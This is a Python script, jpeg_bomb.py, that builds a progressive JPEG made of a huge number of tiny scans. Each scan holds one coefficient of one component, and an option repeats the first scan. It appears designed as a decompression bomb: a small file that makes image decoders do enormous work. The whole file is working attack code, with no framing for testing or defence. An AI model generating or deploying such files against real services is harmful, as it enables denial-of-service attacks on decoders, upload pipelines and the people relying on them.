"""jpeg_bomb.py SIDE COMPONENTS SCANS [repeat]: a progressive JPEG of SIDE x SIDE flat pixels in many scans, a few bytes each, on standard
output.  Each scan has one coefficient of one component, as the standard allows; repeat: all scans have the first one."""
import struct
import sys

side, components, scans = map(int, sys.argv[1:4])
blocks = ((side + 7) // 8) ** 2


def segment(marker, body):
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def table(kind, symbols):  # all codes have 8 bits
    return segment(0xC4, bytes([kind]) + bytes([0] * 7 + [len(symbols)] + [0] * 8) + bytes(symbols))


def bits(text):
    text += "1" * (-len(text) % 8)
    return bytes(int(text[i : i + 8], 2) for i in range(0, len(text), 8)).replace(b"\xff", b"\xff\0")


def empty_scan():
    text, left = "", blocks
    while left:
        run = min(left, 32767)
        power = run.bit_length() - 1  # an end of band for `run` blocks
        text += format(power, "08b") + (format(run - (1 << power), f"0{power}b") if power else "")
        left -= run
    return bits(text)


out = b"\xff\xd8" + segment(0xDB, b"\0" + bytes([1] * 64))
out += segment(0xC2, struct.pack(">BHHB", 8, side, side, components) + b"".join(bytes([i + 1, 0x11, 0]) for i in range(components)))
out += table(0x00, [0]) + table(0x10, [power << 4 for power in range(15)])
dc = bits("0" * 8 * blocks)
order = [(k, c) for k in range(1, 64) for c in range(components)]
written = 0
for c in range(components):
    out += segment(0xDA, bytes([1, c + 1, 0, 0, 0, 0])) + dc
    written += 1
ac = empty_scan()
while written < scans:
    k, c = order[0 if sys.argv[4:] else written - components]
    out += segment(0xDA, bytes([1, c + 1, 0, k, k, 0])) + ac
    written += 1
sys.stdout.buffer.write(out + b"\xff\xd9")
